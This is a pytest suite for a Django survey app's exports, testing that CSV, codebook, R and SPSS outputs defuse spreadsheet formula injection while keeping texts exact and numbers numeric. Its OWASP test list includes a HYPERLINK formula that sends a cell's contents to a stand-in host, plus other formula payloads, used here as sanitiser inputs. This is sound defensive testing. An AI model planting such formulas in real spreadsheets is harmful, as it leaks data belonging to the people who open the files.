"""No CSV export can attack the person who opens it (issue 13): a text cell that a
spreadsheet would run as a formula (OWASP's CSV injection list: =, +, -, @, tab, carriage
return, line feed at the start) has one ' put in front, and so has a text that already
begins with ', so that removing one leading ' from a text cell gives back the exact text:
in Python, and in the R script and SPSS syntax the export writes. Numbers stay numbers."""

import csv
import io
import shutil
import subprocess
from decimal import Decimal

import pytest
from django.db import connection

from evaluation.exports.formulas import RULE, neutralise, neutralise_sql
from evaluation.models import QuestionType

from .factories import add_question, make_community, make_response, make_study, make_survey
from .helpers import export_bytes

pytestmark = pytest.mark.django_db

# A text that begins with one of OWASP's characters: a spreadsheet runs it as a formula.
OWASP = ['=HYPERLINK("http://example.org/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1)",
         "\t=1+1", "\r=1+1", "\n=1+1"]
# Texts whose exact return is easy to get wrong.
TRICKY = ["'already quoted", "'", "''", "=", "-", "'=1+1", "line one\n=line two",
          "tab\tinside", " =1+1 after a space", "a,=1+1", 'say "=1+1"', "a;=1+1",
          "café ✓ 😀", "plain"]
# A likert question whose value labels look like formulas (labels are texts too).
MOOD = [(-1, "-1 worse"), (0, "= same"), (1, "+1 better")]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def build(community, texts, *, numbers=False):
    """A survey with a short and a long text question (each response answers both with the
    same text), a number question and a likert question; with `numbers`, one more response
    answers -2 and -1 to those."""
    survey = make_survey(make_study(community))
    add_question(survey, "short", QuestionType.SHORT_TEXT)
    add_question(survey, "long", QuestionType.LONG_TEXT)
    add_question(survey, "num", QuestionType.NUMBER, min_value=-10, max_value=10)
    add_question(survey, "mood", QuestionType.LIKERT, choices=MOOD)
    for text in texts:
        make_response(survey, community=community, answers={"short": text, "long": text})
    if numbers:
        make_response(survey, community=community, answers={"num": Decimal("-2"), "mood": -1})
    return survey


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def restored(cell: str) -> str:
    """The documented rule (README, Exports): remove one leading ' from a text cell."""
    return cell[1:] if cell.startswith("'") else cell


def text_cells(table, format) -> list[str]:
    """The text answers in the order written (long: the short question's rows)."""
    if format == "long":
        return [row["value"] for row in table if row["variable"] == "short"]
    return [row["short"] for row in table]


def formula_cells(table) -> list[str]:
    """Cells a spreadsheet would run as a formula (a negative number is just a number)."""
    def runs(cell: str) -> bool:
        if not cell.startswith(FORMULA_START):
            return False
        try:
            Decimal(cell)
        except ArithmeticError:
            return True
        return False

    return [cell for row in table for cell in [*row.values(), *row] if runs(cell)]


@pytest.mark.parametrize("format", ["csv", "csv-labels", "long"])
def test_owasp_formula_texts_are_neutralised(community, format):
    survey = build(community, OWASP)
    table = read(export_bytes(survey, format))
    assert text_cells(table, format) == ["'" + text for text in OWASP]
    assert formula_cells(table) == []


@pytest.mark.parametrize("format", ["csv", "csv-labels", "long"])
def test_removing_one_leading_quote_gives_back_the_exact_text(community, format):
    texts = OWASP + TRICKY
    survey = build(community, texts)
    table = read(export_bytes(survey, format))
    assert [restored(cell) for cell in text_cells(table, format)] == texts
    if format == "long":
        assert [restored(row["value"]) for row in table if row["variable"] == "long"] == texts
    else:
        assert [restored(row["long"]) for row in table] == texts
    # Only what must be: a text beginning with anything else is written as it is.
    cells = dict(zip(texts, text_cells(table, format), strict=True))
    assert cells[" =1+1 after a space"] == " =1+1 after a space"
    assert cells["a;=1+1"] == "a;=1+1" and cells["plain"] == "plain"
    assert cells["'"] == "''" and cells["'already quoted"] == "''already quoted"


def test_the_csv_with_shifted_dates_is_neutralised_alike(community):
    """Shifted dates make Python write the rows, not PostgreSQL: the same cells."""
    survey = build(community, OWASP + TRICKY)
    kept = [row["short"] for row in read(export_bytes(survey, "csv"))]
    shifted = [row["short"] for row in read(export_bytes(survey, "csv", {"dates": "shift"}))]
    assert shifted == kept and kept[0].startswith("'=")


def test_python_and_postgresql_neutralise_alike():
    texts = [*OWASP, *TRICKY, "", None]
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {neutralise_sql('t.text')} "
                       f"FROM unnest(%s::text[]) WITH ORDINALITY AS t(text, n) ORDER BY n",
                       [texts])
        from_sql = [row[0] for row in cursor.fetchall()]
    assert from_sql == [neutralise(text) for text in texts]
    assert from_sql[:len(OWASP)] == ["'" + text for text in OWASP]


@pytest.mark.parametrize("format", ["csv", "csv-labels", "long"])
def test_numbers_stay_numbers(community, format):
    survey = build(community, [], numbers=True)
    table = read(export_bytes(survey, format))
    if format == "long":
        values = {row["variable"]: (row["value"], row["label"]) for row in table}
        assert values == {"num": ("-2", ""), "mood": ("-1", "'-1 worse")}
    else:
        (row,) = table
        assert row["num"] == "-2"
        assert row["mood"] == ("'-1 worse" if format == "csv-labels" else "-1")
    assert formula_cells(table) == []


def test_value_labels_and_the_community_are_texts_too(community):
    other = make_community(slug="-1-team")
    survey = build(other, ["fine"])
    for value in (0, 1):
        make_response(survey, community=other, answers={"mood": value})
    table = read(export_bytes(survey, "csv-labels"))
    assert [row["mood"] for row in table] == ["", "'= same", "'+1 better"]
    assert {row["community"] for row in table} == {"'-1-team"}
    assert formula_cells(table) == []


def test_the_codebook_neutralises_its_texts_but_not_its_numbers(community):
    survey = build(community, [])
    survey.questions.filter(code="num").update(text="=1+1 hours?", section="@home")
    book = {row["variable"]: row for row in read(export_bytes(survey, "codebook"))}
    assert book["num"]["question"] == "'=1+1 hours?" and book["num"]["section"] == "'@home"
    assert (book["num"]["min"], book["num"]["max"]) == ("-10", "10")
    assert book["mood"]["choices"] == "'-1, -1 worse | 0, = same | 1, +1 better"
    for text_column in ("respondent_code", "community", "short", "long"):
        assert RULE in book[text_column]["notes"]
    assert formula_cells(book.values()) == []


def hex_lines(values) -> list[str]:
    return [text.encode("utf-8").hex() for text in values]


@pytest.mark.skipif(shutil.which("Rscript") is None, reason="R is not installed")
def test_the_r_script_gives_back_the_exact_texts(community, tmp_path):
    texts = OWASP + TRICKY
    survey = build(community, texts)
    data = export_bytes(survey, "csv")
    assert "'+1+1" in text_cells(read(data), "csv")  # the script has a prefix to take off
    (tmp_path / f"survey-{survey.pk}.csv").write_bytes(data)
    (tmp_path / "survey.R").write_bytes(export_bytes(survey, "r"))
    # Each text as the hex of its UTF-8 bytes: exact, whatever it holds.
    check = """
source("survey.R")
for (column in c("short", "long")) for (v in data[[column]]) {
  cat(paste(charToRaw(enc2utf8(v)), collapse = ""), "\\n", sep = "")
}
"""
    result = subprocess.run(["Rscript", "-e", check], cwd=tmp_path, capture_output=True,
                            timeout=120, env={"PATH": "/usr/bin:/bin", "LANG": "C"})
    assert result.returncode == 0, result.stderr.decode()
    assert b"Warning" not in result.stderr, result.stderr.decode()
    # R's read.csv reads a carriage return inside a field as a line feed, whatever we write.
    read_by_r = [text.replace("\r\n", "\n").replace("\r", "\n") for text in texts]
    assert result.stdout.decode().splitlines() == hex_lines(read_by_r) * 2


@pytest.mark.skipif(shutil.which("pspp") is None, reason="PSPP is not installed")
def test_the_spss_syntax_gives_back_the_exact_texts(community, tmp_path):
    # SPSS cannot read a line break inside a CSV field (the syntax warns of it), and it pads
    # texts with blanks; every other text must come back exactly.
    texts = [text for text in OWASP + TRICKY if "\n" not in text and "\r" not in text]
    survey = build(community, texts)
    data = export_bytes(survey, "csv")
    assert "'+1+1" in text_cells(read(data), "csv")  # the syntax has a prefix to take off
    (tmp_path / f"survey-{survey.pk}.csv").write_bytes(data)
    (tmp_path / "survey.sps").write_bytes(export_bytes(survey, "spss"))
    (tmp_path / "check.sps").write_text(
        'INCLUDE FILE="survey.sps".\n'
        "SAVE TRANSLATE /OUTFILE='texts.csv' /TYPE=CSV /REPLACE\n"
        "  /FIELDNAMES /CELLS=VALUES /KEEP=short long.\n")
    result = subprocess.run(["pspp", "check.sps"], cwd=tmp_path, capture_output=True,
                            timeout=120)
    assert result.returncode == 0, result.stdout.decode() + result.stderr.decode()
    assert b"warning" not in result.stdout.lower() + result.stderr.lower()
    table = read((tmp_path / "texts.csv").read_bytes())
    assert [row["short"].rstrip(" ") for row in table] == texts
    assert [row["long"].rstrip(" ") for row in table] == texts
